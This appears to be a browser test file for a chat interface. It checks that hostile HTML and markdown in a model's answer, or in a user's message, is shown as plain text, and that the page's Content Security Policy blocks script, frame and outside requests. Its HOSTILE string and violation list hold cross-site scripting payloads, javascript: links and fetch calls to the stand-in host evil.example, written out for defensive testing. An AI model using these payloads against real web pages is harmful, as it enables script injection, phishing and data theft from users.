// What a model writes is text: nothing in it is ever loaded, run or followed. And a violation of the page's policy is seen.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { serveFake } from "../fake.mjs";
import { ChatPage } from "../pages/chat.mjs";
import { setUp, until } from "../steps.mjs";

const TIMEOUT = { timeout: 5 * 60_000 };
const EVIL = "http://evil.example";
const HOSTILE = `Look: <img src=${EVIL}/pixel.png onerror="window.hacked=1"> and
<script>window.hacked = 1; fetch("${EVIL}/script")</script>

<iframe src="${EVIL}/frame"></iframe><svg onload="window.hacked=1"><style>@import url(${EVIL}/style)</style>

![a picture](${EVIL}/picture.png) ![inline](data:image/png;base64,AAAA) <video src=${EVIL}/video autoplay>

[free money](javascript:window.hacked=1) [upper](JaVaScRiPt:window.hacked=1) [page](data:text/html,<script>window.hacked=1</script>)
[your bank](${EVIL}/login) <${EVIL}/auto> <a href="${EVIL}/raw" onclick="window.hacked=1">raw link</a>
or just ${EVIL}/bare, and https://bank.example@evil.example/user.

[reference][x] ![reference picture][x]

[x]: ${EVIL}/reference "title"

| a | b |
| --- | --- |
| <img src=${EVIL}/cell.png> | [c](vbscript:x) |

\`\`\`html
<script src="${EVIL}/code.js"></script>
\`\`\`
`;

describe("hostile answers", () => {
  let server, browser, chat;
  setUp(() => serveFake({ answers: { "Attack me": HOSTILE }, paceMillis: 1 }), async (here) => {
    ({ server, browser } = here);
    chat = await ChatPage.open(browser, server.url);
    await chat.ask("Attack me");
    await chat.finished();
  }, { gpu: "none" });

  test("nothing is loaded or run", TIMEOUT, async () => {
    const found = await chat.answers.last().evaluate((answer) => ({
      elements: [...answer.querySelectorAll("img, script, iframe, style, svg[onload], video, audio, object, embed, link, form")].map(
        (element) => element.outerHTML,
      ),
      handlers: [...answer.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes].filter(({ name }) => name.startsWith("on") || name === "style" || name === "srcdoc").map(({ name }) => name),
      ),
      addresses: [...answer.querySelectorAll("[href], [src]")].map((element) => element.getAttribute("href") ?? element.getAttribute("src")),
    }));
    assert.deepEqual(found.elements, []);
    assert.deepEqual(found.handlers, []);
    assert.deepEqual(found.addresses.filter((address) => !/^https?:\/\//.test(address)), []);
    assert.equal(await chat.page.evaluate(() => window.hacked), undefined);
    chat.assertNoErrors();
  });

  test("its HTML is shown as it was written", TIMEOUT, async () => {
    const shown = await chat.answers.last().innerText();
    for (const words of ["<script>window.hacked = 1;", `<img src=${EVIL}/pixel.png`, "raw link", `<script src="${EVIL}/code.js"></script>`]) {
      assert.ok(shown.includes(words), `${words} is not in:\n${shown}`);
    }
  });

  test("a link shows its real address before anything is opened", TIMEOUT, async () => {
    const link = chat.answers.last().getByText("your bank", { exact: true });
    await link.click();
    const dialog = chat.page.getByRole("dialog", { name: "Open this link?" });
    await dialog.waitFor();
    assert.match(await dialog.innerText(), /http:\/\/evil\.example\/login/);
    assert.equal(chat.context.pages().length, 1, "something was opened without a question");
    await chat.page.keyboard.press("Escape");
    await dialog.waitFor({ state: "hidden" });
    // An address that pretends to be another is shown by the host that it leads to.
    await chat.answers.last().getByText("bank.example@").click();
    assert.match(await dialog.innerText(), /^evil\.example$/m);
    await chat.page.keyboard.press("Escape");
    await dialog.waitFor({ state: "hidden" });
    // Addresses of other kinds are no links at all.
    const links = await chat.answers.last().locator("a").evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    assert.deepEqual(links, [`${EVIL}/login`, `${EVIL}/auto`, `${EVIL}/bare`, "https://bank.example@evil.example/user", `${EVIL}/reference`]);
    const shown = await chat.answers.last().innerText();
    for (const words of ["free money", "upper", "page"]) assert.ok(shown.includes(words), `${words} is not shown`);
    assert.equal(await chat.page.evaluate(() => window.hacked), undefined);
    chat.assertNoErrors();
  });

  test("what the person writes is text as well", TIMEOUT, async () => {
    await chat.ask(`<img src=${EVIL}/mine.png> [x](javascript:1)`);
    await chat.finished();
    assert.equal(await chat.questions.last().locator("img, a").count(), 0);
    assert.match(await chat.questions.last().innerText(), /<img src=/);
    chat.assertNoErrors();
  });
});

describe("the policy", () => {
  const VIOLATIONS = {
    "a picture from elsewhere": (evil) => document.body.append(Object.assign(new Image(), { src: `${evil}/x.png` })),
    "a request to elsewhere": (evil) => fetch(`${evil}/x`).catch(() => undefined),
    "an inline script": () => document.body.append(Object.assign(document.createElement("script"), { textContent: "window.hacked = 1" })),
    "an inline style": () => document.body.setAttribute("style", "color: red"),
    "code from text": () => setTimeout("window.hacked = 1", 0),
    "a frame": (evil) => document.body.append(Object.assign(document.createElement("iframe"), { src: evil })),
    "a worker from elsewhere": () => {
      try {
        new Worker(URL.createObjectURL(new Blob(["1"])));
      } catch {
        // Some browsers throw, others only report.
      }
    },
  };
  let server, browser;
  setUp(() => serveFake({}), (here) => ({ server, browser } = here), { gpu: "none" });

  // The specs rest on this: whatever breaks the policy fails them.
  for (const [name, violate] of Object.entries(VIOLATIONS)) {
    test(`${name} is refused, and the watcher sees it`, TIMEOUT, async () => {
      const chat = await ChatPage.open(browser, server.url);
      await chat.waitFor("ready");
      chat.assertNoErrors();
      await chat.page.evaluate(violate, EVIL);
      await until(() => chat.watcher.unexpected().some((problem) => /Content.Security.Policy/i.test(problem)));
      assert.equal(await chat.page.evaluate(() => window.hacked), undefined);
      await chat.context.close();
    });
  }
});
